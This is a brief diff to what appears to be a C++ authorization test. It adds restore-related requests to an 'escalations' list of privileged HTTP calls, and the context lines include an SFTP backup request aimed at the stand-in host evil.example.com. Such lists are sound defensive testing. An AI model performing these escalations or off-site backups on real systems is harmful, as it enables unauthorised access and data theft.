@@ -157,6 +157,9 @@ const std::pair<const char*, const char*> escalations[] = {
     {"POST /sftp-backup/try", R"({"host":"evil.example.com","user":"eve","password":"x"})"},
     {"POST /sftp-backup/now", ""},
     {"GET /sftp-backup/files", ""},
+    {"POST /restore/uploads", R"({"bytes":10})"},
+    {"POST /restore/look", R"({"place":"kept","name":"a"})"},
+    {"POST /restore", R"({"id":"a","password":"administrator's"})"},
     {"PATCH /settings", R"({"audit_days":1})"},
     {"POST /logout", ""},
 };
